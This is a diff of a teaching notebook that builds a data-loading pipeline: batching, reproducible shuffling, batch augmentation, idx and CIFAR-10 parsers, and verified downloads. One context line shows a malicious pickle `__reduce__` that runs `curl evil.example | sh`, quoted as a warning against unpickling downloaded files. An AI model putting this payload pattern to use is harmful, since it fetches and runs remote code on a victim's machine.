@@ -11,23 +11,21 @@
 #                     ds.get_batch(indices)   augment, wrap in Tensors       (64,) int64
 # ```
 #
-# Many training bugs live here: unshuffled data (each batch one class), an epoch that skips
-# samples, augmentation no run can repeat, a truncated file parsed as data. You build the
-# pipeline piece by piece, each piece tested, then point it at MNIST and CIFAR-10.
+# Many training bugs live here: unshuffled data, skipped samples, augmentation no run can
+# repeat, a truncated file parsed as data. You build the pipeline piece by piece, each tested.
 #
 # **Prerequisites:** module 01 (Tensor, `manual_seed`/`get_rng`). **Time:** about 2 hours.
 #
 # ## Learning Objectives
 #
-# 1. Implement the **Dataset / DataLoader protocol** with **one fancy index per batch**, and
-#    *measure* why.
+# 1. Implement the **Dataset / DataLoader protocol** with **one fancy index per batch**.
 # 2. Make shuffling and augmentation **reproducible** (a per-loader generator) and resumable.
 # 3. Write **batch transforms** without loops over samples: `Normalize`, `RandomCrop`, flips.
 # 4. Parse the **idx** and **CIFAR-10 binary** formats, checking every header, and never unpickle.
 # 5. Measure a dataset's memory (uint8 against float32) and decide where to convert.
 #
-# Downloads and the dataset generators are **given code** (`tinytorch/data/_download.py`,
-# `_generated.py`), read along in sections 4 and 6.
+# Downloads and dataset generators are **given code** (`tinytorch/data/_download.py`,
+# `_generated.py`, sections 4 and 6).
 
 # %% nbgrader={"grade": false, "grade_id": "dataloader-imports", "locked": false, "schema_version": 3, "solution": false}
 #| default_exp data.loader
@@ -53,26 +51,25 @@ from tinytorch.data._download import (CHECKSUMS, CIFAR10_ARCHIVE, CIFAR10_FILES,
 
 # %% nbgrader={"grade": false, "grade_id": "dataloader-demo-imports", "locked": false, "schema_version": 3, "solution": false}
 # Used by the tests and demonstrations below, not by the loader itself.
-import contextlib
-import hashlib
 import os
 import tempfile
 import time
 
 from tinytorch.core.tensor import manual_seed
+# Given (section 6): files in the real formats for the tests, their checksums, a demonstration.
+from tinytorch.data._download import cifar_bytes, idx_bytes, registered_checksums, tour_of_downloads
+from tinytorch.data._generated import check_generated_datasets  # given: see section 4
 
 # %% [markdown]
 # ## 1. Batches and the Dataset protocol
 #
-# Training minimises the average loss over the training set; each step estimates its gradient
-# from a **mini-batch** of `B` samples: its noise falls like `1/√B`, while throughput rises
-# with `B` until the arithmetic units are full. A batch is an honest estimate only if it is a
-# **random sample**; files are often sorted (by class), so every epoch needs a fresh permutation.
+# Each training step estimates the gradient from a **mini-batch** of `B` samples (noise falls
+# like `1/√B`). It is an honest estimate only if the batch is a **random sample**; files are
+# often sorted by class, so every epoch needs a fresh random order.
 #
-# PyTorch separates *what the data is* from *how it is served*. A **Dataset** answers
-# `len(dataset)` and `dataset[i]` (e.g. `(image, label)`); a **DataLoader** orders, batches,
-# augments and converts to Tensors. The simplest batch is one `dataset[i]` per sample, stacked
-# field by field:
+# A **Dataset** answers `len(dataset)` and `dataset[i]` (e.g. `(image, label)`); a
+# **DataLoader** orders, batches, augments and converts to Tensors. The simplest batch is one
+# `dataset[i]` per sample, joined field by field:
 #
 # ```
 #   [(x17, 3), (x3, 1), (x42, 7)]  ──one array per field──►  (array of shape (3, *x.shape), array([3, 1, 7]))
@@ -104,7 +101,7 @@ def stack_samples(samples: list[Any]) -> Any:
         stack_samples([x0, x1])             ->  array [x0, x1]
     """
     if not samples:
-        raise ValueError("Cannot stack an empty list of samples.")
+        raise ValueError("Cannot make a batch from an empty list of samples.")
     ### BEGIN SOLUTION
     first = samples[0]
     if not isinstance(first, (tuple, list)):
@@ -150,10 +147,9 @@ if __name__ == "__main__":
 #   labels[[17, 3, 42, …]]   ──►  (B,)
 # ```
 #
-# So our datasets have a third method, **`get_batch(indices)`** (PyTorch: `__getitems__`). The
-# base `Dataset` implements it the slow way, with `stack_samples`; array-backed datasets
-# override it with one fancy index per array. The loader always calls `get_batch`; the
-# Complexity Analysis section measures the difference.
+# So our datasets have a third method, **`get_batch(indices)`** (PyTorch: `__getitems__`): the
+# base `Dataset` does it the slow way, with `stack_samples`; array-backed datasets override it
+# with one fancy index per array. The Complexity Analysis section measures the difference.
 #
 # `TensorDataset(X, y)` wraps arrays (or Tensors) sharing their first dimension: sample `i` is
 # `(X[i], y[i])`, as NumPy arrays (the *loader* makes Tensors, once per batch). `_index_array`
@@ -313,7 +309,7 @@ if __name__ == "__main__":
 # One epoch of a loader with `batch_size=4, shuffle=True` over 10 samples:
 #
 # ```
-#   order = permutation(10)     [7 2 9 0 | 4 8 1 5 | 3 6]          a new permutation every epoch
+#   order = shuffled 0…9        [7 2 9 0 | 4 8 1 5 | 3 6]          a new order every epoch
 #                                └──┬──┘   └──┬──┘   └┬┘
 #   get_batch(order[0:4])         batch 0   batch 1   batch 2       len(loader) = ceil(10/4) = 3
 #                                                      (2 samples; dropped if drop_last=True)
@@ -321,22 +317,17 @@ if __name__ == "__main__":
 #   Tensor(inputs), Tensor(labels, int64)                            what the model receives
 # ```
 #
-# `drop_last=True` skips the last, smaller batch (noisier, and batch norm can misbehave on a
-# batch of one). Floats become float32 Tensors and **integer arrays int64**, the labels
-# `CrossEntropyLoss` expects.
+# `drop_last=True` skips the last, smaller batch (noisier; batch norm misbehaves on a batch of
+# one). Floats become float32 Tensors and **integer arrays int64**, as `CrossEntropyLoss` expects.
 #
 # ### Reproducible shuffling, and resuming: `state_dict()`
 #
-# Each loader owns a `np.random.Generator`, `loader.generator`, and draws every permutation (and
-# every random augmentation) from it: `seed=0` means `np.random.default_rng(0)`; `seed=None`
-# **spawns** it from TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` makes it
-# reproducible too, without shifting the model's initialisation (spawning draws no number).
-# Epoch 2 continues the stream with a new permutation.
-#
-# A run resumed in a new process gets a new loader, back at epoch 1. To resume *exactly*, the
-# checkpoint holds `loader.state_dict()` (the generator's state, JSON-able) and
-# `load_state_dict(state)` restores it; module 07's `Trainer` saves it (names from `torchdata`'s
-# `StatefulDataLoader`). Both methods are given.
+# Each loader owns a `np.random.Generator`, `loader.generator`, and draws every epoch's order
+# (and every random augmentation) from it: `seed=0` means `np.random.default_rng(0)`; `seed=None`
+# **spawns** it from TinyTorch's (`get_rng().spawn(1)[0]`), so `manual_seed(0)` reproduces it
+# too, without shifting the model's initialisation (spawning draws no number). To resume a run
+# *exactly* in a new process, a checkpoint holds `loader.state_dict()` (the generator's state,
+# JSON-able) and `load_state_dict(state)` restores it (given; module 07's `Trainer` saves it).
 #
 # Your turn: the number of batches, the order of an epoch, and the batch loop.
 
@@ -557,11 +548,10 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 3. Transforms and augmentation, a whole batch at a time
 #
-# **Preprocessing** is the same every time: scale pixels, subtract each channel's mean, divide
-# by its std (module 03's initialisation assumes unit-variance inputs). **Augmentation** is
-# random every time: shift the image a few pixels, mirror it; each epoch sees a slightly
-# different training set, vision's cheapest defence against overfitting (CIFAR-10's recipe: pad
-# 4, crop 32, flip). torchvision transforms one sample at a time; ours take the **whole batch**,
+# **Preprocessing** is the same every time: subtract each channel's mean, divide by its std
+# (module 03's initialisation assumes unit-variance inputs). **Augmentation** is random every
+# time: shift the image a few pixels, mirror it, so each epoch sees a slightly different training
+# set (CIFAR-10's recipe: pad 4, crop 32, flip). Our transforms take the **whole batch**,
 # `(N, C, H, W)` or `(N, D)`, NumPy in and out, drawing from the loader's generator.
 #
 # `Normalize(mean, std)` computes `(x - mean) / std` per channel (axis 1) or per feature, or with
@@ -682,14 +672,12 @@ if __name__ == "__main__":
 # ### RandomCrop without a loop over samples
 #
 # `RandomCrop(size, padding)` pads each image with `padding` zeros and cuts a `size × size`
-# window at a **different random position for every sample**, without a loop:
-# `sliding_window_view(padded, (h, w), axis=(-2, -1))` is a *view* (no copy) of every window,
-# shape `(N, C, H-h+1, W-w+1, h, w)`; axes 2 and 3 say where a window starts. One fancy index,
-# `windows[arange(N), :, top, left]` with `(N,)` random offsets, gathers one window per sample.
+# window at a **different random position for every sample**, without a loop: a *view* of every
+# window (`sliding_window_view`, no copy) has shape `(N, C, H-h+1, W-w+1, h, w)`, axes 2 and 3
+# saying where a window starts; one fancy index with a random start per sample gathers the crops.
 #
-# `RandomHorizontalFlip(p)` mirrors each image with probability `p`: `N` coin flips, then one
-# masked assignment. (No vertical flips: a flipped 6 is a 9.) Both refuse a flattened `(N, D)`
-# batch, which has no rows and columns: augment first, flatten afterwards.
+# `RandomHorizontalFlip(p)` mirrors each image with probability `p` (no vertical flips: a flipped
+# 6 is a 9). Both refuse a flattened `(N, D)` batch: augment first, flatten afterwards.
 
 # %% nbgrader={"grade": false, "grade_id": "random-crop-flip", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -834,8 +822,7 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 4. Datasets you can generate (given code)
 #
-# Tests, demos and the first milestones want data that is **small, instant, offline and
-# deterministic**, so the package ships generators (`tinytorch/data/_generated.py`):
+# Tests, demos and the first milestones want **small, instant, offline, deterministic** data:
 #
 # | generator | data | hard for… |
 # |---|---|---|
@@ -846,49 +833,10 @@ if __name__ == "__main__":
 #
 # Each returns **shuffled** `(X, y)` arrays (float32, int64), like scikit-learn, e.g.
 # `TensorDataset(*make_spirals(100))`, and takes a `seed` (`None`: TinyTorch's generator).
-# `load_digits` draws stroke templates under random rotation, shear, scale, shift and pen width.
-# The cell below checks them, including that softmax regression learns the digits.
 
 # %% nbgrader={"grade": false, "grade_id": "check-generated", "locked": true, "schema_version": 3, "solution": false}
-def check_generated_datasets(verbose: bool = True) -> float:
-    """The given generators, checked: shapes, dtypes, labels, determinism, and learnable digits."""
-    X, y = make_xor(400, noise=0.0, seed=0)
-    assert X.shape == (400, 2) and X.dtype == np.float32 and y.dtype == np.int64
-    np.testing.assert_array_equal(y, (X[:, 0] != X[:, 1]).astype(np.int64))
-    X, y = make_spirals(50, classes=4, noise=0.0, seed=1)
-    assert X.shape == (200, 2) and np.bincount(y).tolist() == [50] * 4
-    X, y = make_blobs(300, centers=np.array([[0.0, 0.0], [10.0, 10.0]]), std=0.5, seed=2)
-    np.testing.assert_allclose(X[y == 1].mean(axis=0), [10, 10], atol=0.15)
-
-    bar = np.array([[[[0.1, 0.5], [0.9, 0.5]]]], dtype=np.float32)   # a horizontal stroke
-    rows = render_strokes(bar, np.array([0.05], dtype=np.float32), size=8)[0].mean(axis=1)
-    assert rows[3] > 0.3 and rows[4] > 0.3 and rows[0] == 0 and rows[7] == 0
-    X, y = load_digits(60, seed=0)
-    assert X.shape == (600, 1, 8, 8) and X.dtype == np.float32 and y.dtype == np.int64
-    assert np.bincount(y).tolist() == [60] * 10 and 0.0 <= X.min() and X.max() <= 1.0
-    np.testing.assert_array_equal(load_digits(5, seed=3)[0], load_digits(5, seed=3)[0])
-
-    Xtr, ytr = load_digits(150, seed=1)
-    Xte, yte = load_digits(50, seed=2)
-    A, B = Xtr.reshape(len(Xtr), -1), Xte.reshape(len(Xte), -1)
-    W, b = np.zeros((64, 10), dtype=np.float32), np.zeros(10, dtype=np.float32)
-    for _ in range(200):                                             # softmax regression, full batch
-        z = A @ W + b
-        p = np.exp(z - z.max(axis=1, keepdims=True))
-        p /= p.sum(axis=1, keepdims=True)
-        p[np.arange(len(ytr)), ytr] -= 1.0
-        W -= 0.5 * A.T @ p / len(A)
-        b -= 0.5 * p.mean(axis=0)
-    accuracy = float(((B @ W + b).argmax(axis=1) == yte).mean())
-    assert accuracy > 0.85, accuracy
-    if verbose:
-        print("a generated 3 (8×8):")
-        for row in Xtr[np.argmax(ytr == 3), 0]:
-            print("   " + "".join(" .:-=+*#%@"[min(int(v * 10), 9)] for v in row))
-        print(f"softmax regression, 1 500 training digits, 200 steps: {accuracy:.1%} on 500 held-out ones")
-    return accuracy
-
-
+# check_generated_datasets (given, in _generated.py): shapes, dtypes, labels, determinism, and a
+# softmax regression that must learn the generated digits.
 def test_generated_datasets_given_code():
     check_generated_datasets(verbose=False)
 
@@ -901,12 +849,11 @@ if __name__ == "__main__":
 #
 # ### Images in memory: bytes, not floats
 #
-# A file stores each pixel as one byte; a model wants float32 in [0, 1]. Converting once at
-# load time makes the dataset 4× larger in memory; converting per batch costs one small
-# conversion per batch (the Memory Profiling section measures both). So `ImageDataset` keeps
-# `.data` as **uint8** `(N, C, H, W)` (like torchvision), `.targets` as int64 and `.classes` as
-# names, and converts in `get_batch`. Grey MNIST is `(N, 1, 28, 28)` too, so the same batches
-# serve convolutions (module 09); an MLP flattens with `lambda x: x.reshape(len(x), -1)`.
+# A file stores each pixel as one byte; a model wants float32 in [0, 1]. Converting at load time
+# makes the dataset 4× larger; converting per batch costs a small conversion each time (Memory
+# Profiling measures both). `ImageDataset` keeps `.data` as **uint8** `(N, C, H, W)` (like
+# torchvision; grey MNIST is `(N, 1, 28, 28)`), `.targets` int64, `.classes` names, and converts
+# in `get_batch`. An MLP flattens with `lambda x: x.reshape(len(x), -1)`.
 #
 # Your turn: `get_batch`, reusing `TensorDataset`'s gather.
 
@@ -977,31 +924,6 @@ def test_unit_image_dataset():
 if __name__ == "__main__":
     test_unit_image_dataset()
 
-# %% nbgrader={"grade": false, "grade_id": "dataloader-test-helpers", "locked": false, "schema_version": 3, "solution": false}
-# File makers for the tests below: generated files in the real formats.
-def idx_bytes(array: np.ndarray) -> bytes:
-    """A uint8 array in the idx format: magic (0, 0, 0x08, ndim), the sizes (big-endian), the bytes."""
-    header = bytes([0, 0, 0x08, array.ndim]) + np.array(array.shape, dtype=">u4").tobytes()
-    return header + np.ascontiguousarray(array, dtype=np.uint8).tobytes()
-
-
-def cifar_bytes(images: np.ndarray, labels: np.ndarray) -> bytes:
-    """Records in the CIFAR-10 binary format: 1 label byte, then 3 072 pixel bytes (R, G, B planes)."""
-    records = np.concatenate([labels.reshape(-1, 1), images.reshape(len(images), -1)], axis=1)
-    return records.astype(np.uint8).tobytes()
-
-
-@contextlib.contextmanager
-def registered_checksums(files: dict[str, bytes]):
-    """Temporarily register the sha256 of generated files (the real registry lists the real files)."""
-    saved = dict(CHECKSUMS)
-    CHECKSUMS.update({name: "sha256:" + hashlib.sha256(data).hexdigest() for name, data in files.items()})
-    try:
-        yield
-    finally:
-        CHECKSUMS.clear()
-        CHECKSUMS.update(saved)
-
 # %% [markdown]
 # ### The idx format (MNIST)
 #
@@ -1018,9 +940,8 @@ def registered_checksums(files: dict[str, bytes]):
 # ```
 #
 # Labels have magic 2049 (one dimension). The bytes after the header are *viewed* as an array
-# (no copy) of the header's sizes. A parser must **check everything the header claims**: a
-# wrong magic means the wrong file, a size mismatch a truncated one; without the checks a wrong
-# file may parse "successfully" as garbage. Our errors name the file and what was expected.
+# of the header's sizes. A parser must **check everything the header claims** (a wrong magic:
+# the wrong file; a size mismatch: a truncated one), or a wrong file parses as garbage.
 
 # %% nbgrader={"grade": false, "grade_id": "read-idx", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -1133,9 +1054,8 @@ if __name__ == "__main__":
 #         return (os.system, ("curl evil.example | sh",))   # pickle.load() runs this
 # ```
 #
-# One forgotten checksum is enough (why `torch.load` now defaults to `weights_only=True`), so
-# we use the **binary version**: records of 3 073 bytes, `[label 0..9] [1024 red] [1024 green]
-# [1024 blue]` (32×32 planes, row-major), 10 000 per file. Parsing is again a view of the bytes.
+# (Why `torch.load` now defaults to `weights_only=True`.) We use the **binary version**: records
+# of 3 073 bytes, `[label 0..9] [1024 red] [1024 green] [1024 blue]` (32×32 planes, row-major).
 
 # %% nbgrader={"grade": false, "grade_id": "read-cifar", "locked": false, "schema_version": 3, "solution": true}
 #| export
@@ -1205,54 +1125,26 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## 6. Downloads you can trust (given code, read along)
 #
-# Finding and fetching the files is given code, `tinytorch/data/_download.py` (tested against a
-# local HTTP server by `tests/integration/test_downloads.py`). Read it beside four rules:
+# Finding and fetching files is `tinytorch/data/_download.py` (tested against a local HTTP
+# server by `tests/integration/test_downloads.py`). Read it beside four rules:
 #
-# 1. **The folder**: `root`, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch` (`data_root`),
-#    canonical names under `mnist/` and `cifar10/`, so a folder filled by hand works.
-# 2. **Checksums before parsing**: `CHECKSUMS` maps each file to its published fingerprint
-#    (`"sha256:440f…"`, or the authors' sha1/md5). A mismatch is a `ChecksumError`; a local file
-#    that fails is reported, never parsed or replaced. This catches cut-off downloads, HTML
-#    error pages served with status 200, disk errors, tampering.
-# 3. **Atomic writes**: a download streams into `.name.<random>.part` in the *same folder*
-#    (hashed as it arrives, length checked against `Content-Length`), then `fsync` and
-#    `os.replace`, atomic within one file system.
+# 1. **The folder**: `root`, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch` (`data_root`).
+# 2. **Checksums before parsing**: `CHECKSUMS` maps each file to its published fingerprint; a
+#    mismatch is a `ChecksumError`, never parsed (cut-off downloads, HTML error pages, tampering).
+# 3. **Atomic writes**: a download streams into a `.part` file in the *same folder*, hashed as it
+#    arrives, then `fsync` and `os.replace`, atomic within one file system.
 # 4. **Mirrors, one clear error**: `MIRRORS` are tried in order; `DownloadError` names the file,
 #    the folder and what every mirror answered. CIFAR-10's archive is read member by member,
-#    each verified and written under a name the code chooses (never `tar.extractall`).
+#    each verified, under names the code chooses (never `tar.extractall`).
 #
-# The demonstration below serves a file through `file://` URLs and shows rules 2–4 at work.
+# `tour_of_downloads()` (below) serves a file through `file://` URLs and shows rules 2–4 at work.
 
 # %% nbgrader={"grade": false, "grade_id": "downloads-tour", "locked": false, "schema_version": 3, "solution": false}
-def tour_of_downloads() -> None:
-    """download_file, live: a dead mirror skipped, a wrong checksum refused, nothing half-written."""
-    data = np.random.default_rng(1).bytes(3_000_000)
-    good = "sha256:" + hashlib.sha256(data).hexdigest()
-    with tempfile.TemporaryDirectory() as tmp:
-        tmp = Path(tmp)
-        (tmp / "server").mkdir()
-        (tmp / "server" / "blob.bin").write_bytes(data)
-        (tmp / "cache").mkdir()
-        dead, live = (tmp / "nowhere").as_uri() + "/blob.bin", (tmp / "server").as_uri() + "/blob.bin"
-        start = time.perf_counter()
-        path = download_file([dead, live], tmp / "cache" / "blob.bin", good, progress=False)
-        print(f"dead mirror skipped, {path.stat().st_size:,} bytes verified in "
-              f"{(time.perf_counter() - start) * 1e3:.1f} ms; cache folder holds {os.listdir(tmp / 'cache')}")
-        path.unlink()
-        try:
-            download_file([live], tmp / "cache" / "blob.bin", "sha256:" + "0" * 64, progress=False)
-        except DownloadError as e:
-            print(f"wrong checksum -> DownloadError; cache folder holds {os.listdir(tmp / 'cache')}")
-            print("   " + str(e).replace("\n", "\n   ")[:160] + "…")
-
-
 if __name__ == "__main__":
-    tour_of_downloads()
+    tour_of_downloads()  # given, in _download.py
 
 # %% [markdown]
 # ### MNIST and CIFAR-10
-#
-# With the files found and verified, parse them with your readers into `ImageDataset`s.
 #
 # ```python
 # train, test = download_mnist()      # 60 000 and 10 000 images (1, 28, 28), classes "0"…"9"
@@ -1376,23 +1268,19 @@ if __name__ == "__main__":
 #
 # For a dataset of `N` samples of `D` values each, batch size `B`:
 #
-# | step | cost | notes |
-# |---|---|---|
-# | permutation per epoch | O(N) time, 8N bytes | once per epoch |
-# | fast `get_batch` | O(B·D) bytes copied, **1** NumPy call per array | the gather reads B scattered rows |
-# | slow path (per sample) | O(B·D) bytes + **B** Python calls | a call, a tuple, small arrays, the stack |
-# | uint8 → float32 per batch | O(B·D), reads D, writes 4D bytes | saves 3N·D bytes of memory |
-# | `Normalize`, `RandomHorizontalFlip` | O(B·D) | one broadcast, one masked copy |
-# | `RandomCrop` | O(B·C·(H+2p)·(W+2p)) for the pad, O(B·C·h·w) for the gather | the window view itself is free |
-# | checksum, idx / CIFAR parse | O(file size), constant memory for the hash | gunzip dominates; `frombuffer` is free |
+# | step | cost |
+# |---|---|
+# | the order of an epoch | O(N) time, 8N bytes, once per epoch |
+# | a batch, fast or slow path | O(B·D) bytes copied; **1** NumPy call per array, or **B** Python calls |
+# | uint8 → float32, per batch | O(B·D); keeps the dataset 4× smaller |
+# | transforms | O(B·D); `RandomCrop` also pads, its window view is free |
+# | checksum, idx / CIFAR parse | O(file size); constant memory for the hash, `frombuffer` is free |
 #
-# Both paths copy O(N·D) bytes per epoch; the slow path pays the interpreter `N` times, the fast
-# path `N / B` times. Below, both run on random bytes shaped like MNIST. A per-sample dataset
-# that decodes files is slower still: that is where PyTorch's worker processes come in.
+# Below, both paths run on random bytes shaped like MNIST. A per-sample dataset that decodes
+# files is slower still: that is where PyTorch's worker processes come in.
 
 # %% nbgrader={"grade": false, "grade_id": "analyze-batching-speed", "locked": false, "schema_version": 3, "solution": false}
-def _machine() -> str:
-    """The machine a measurement ran on: CPU count and the BLAS thread limit, if one is set."""
+def _machine() -> str:  # where a measurement ran: CPU count and the BLAS thread limit, if set
     threads = os.environ.get("OMP_NUM_THREADS") or os.environ.get("OPENBLAS_NUM_THREADS") or "not set"
     return f"{os.cpu_count()} CPUs, OMP/BLAS threads: {threads}"
 
@@ -1435,10 +1323,9 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## Memory Profiling
 #
-# Section 5 keeps images as uint8 and converts per batch. Is that free? The function below
-# prints the bytes of the training images as uint8 and as float32, and the time to gather a
-# batch from each store (the real MNIST when `$TINYTORCH_DATA` has it, random bytes otherwise).
-# Gathering from uint8 reads 4× fewer bytes of scattered memory, which can pay for the conversion.
+# Section 5 keeps images as uint8 and converts per batch. Is that free? Below: the bytes of the
+# training images as uint8 and as float32, and the time to gather a batch from each (the real
+# MNIST when `$TINYTORCH_DATA` has it). Gathering uint8 reads 4× fewer scattered bytes.
 
 # %% nbgrader={"grade": false, "grade_id": "profile-dataset-memory", "locked": false, "schema_version": 3, "solution": false}
 def profile_dataset_memory(batch_size: int = 256, repeats: int = 200) -> dict[str, float]:
@@ -1476,42 +1363,37 @@ if __name__ == "__main__":
 # %% [markdown]
 # ## Production Context
 #
-# **`torch.utils.data`** adds iterable-style datasets (streams), samplers
-# (`WeightedRandomSampler`, `DistributedSampler`), `collate_fn` (our `stack_samples`),
-# `__getitems__` (our `get_batch`) and **worker processes** that prepare batches while the GPU
-# computes. Before PyTorch 1.9 every worker inherited a *copy* of NumPy's global generator and
-# drew the same "random" augmentations; a per-loader generator avoids that by construction.
+# **`torch.utils.data`** adds iterable-style datasets (streams), samplers, `collate_fn` (our
+# `stack_samples`), `__getitems__` (our `get_batch`) and **worker processes** that prepare
+# batches while the GPU computes. Before PyTorch 1.9 every worker inherited a *copy* of NumPy's
+# global generator and drew the same "random" augmentations; a per-loader generator avoids that.
 # **At scale** the input pipeline is often the bottleneck: systems decode on the GPU (DALI),
 # precompute compact formats (FFCV, WebDataset) and memory-map columns (Hugging Face `datasets`).
 #
 # ## ML Systems Thinking
 #
 # 1. Take the epoch times `analyze_batching_speed` printed and time one training step of module
-#    03's MLP at batch 64. What fraction of training does each path cost? What would worker
-#    processes change, and cost in memory?
+#    03's MLP at batch 64. What fraction of training does each path cost? And worker processes?
 # 2. Our loader spawns its generator at construction; PyTorch draws a seed at each `__iter__`.
-#    Give a program where the two differ after `manual_seed(0)`. Which stays reproducible when
-#    you add dropout to the model?
-# 3. ImageNet is about 140 GB as JPEG and 770 GB as float32 at 224×224. Which of this module's
-#    decisions survive at that scale, and which must change?
+#    Give a program where the two differ after `manual_seed(0)`.
+# 3. Compute the size of ImageNet's 1.28 million training images at 224×224×3 as uint8 and as
+#    float32. Which of this module's decisions survive at that scale, and which must change?
 # 4. For CIFAR (N = 256, padding 4, crop 32), how many elements does `RandomCrop`'s window view
 #    describe, and how many bytes does it occupy? Why does the fancy index copy only `N·C·h·w`?
 # 5. A mirror answers status 200 with an HTML "quota exceeded" page. Which check in
-#    `_download.py` catches it, and what would `read_idx` have said without it? And a
-#    connection cut off after 90 % of the file? Why must the `.part` file share the folder?
+#    `_download.py` catches it? Why must the `.part` file share the destination's folder?
 #
 # ## Module Summary
 #
 # - **`stack_samples`, `Dataset`, `TensorDataset`**: the protocol, plus `get_batch(indices)`,
-#   one fancy index per array (the slow path any dataset gets for free, tested equal to it).
-# - **`DataLoader`**: batches, `drop_last`, a fresh permutation per epoch from a per-loader
-#   generator, float32 inputs and int64 labels, `state_dict()` to resume exactly.
+#   one fancy index per array.
+# - **`DataLoader`**: batches, `drop_last`, a fresh order per epoch from a per-loader generator,
+#   float32 inputs and int64 labels, `state_dict()` to resume exactly.
 # - **Batch transforms**: `Normalize`, `Compose`, `RandomCrop` (a sliding-window view, no
 #   loop), `RandomHorizontalFlip`, reproducible through the loader's generator.
 # - **Real data**: `read_idx` and `read_cifar10_bin` check every header; `ImageDataset` keeps
 #   uint8 and converts per batch; `download_mnist`/`download_cifar10` parse files the given
 #   code found, verified and wrote atomically. No pickle anywhere.
 #
-# **Next:** milestone 03 trains an MLP on MNIST with these loaders (the 1986 backpropagation
-# result, on 60 000 real digits), and module 09 (spatial) adds convolutions, which take the
-# `(N, C, H, W)` batches of this module as they are.
+# **Next:** milestone 03 trains an MLP on MNIST with these loaders, and module 09 adds
+# convolutions, which take the `(N, C, H, W)` batches of this module as they are.
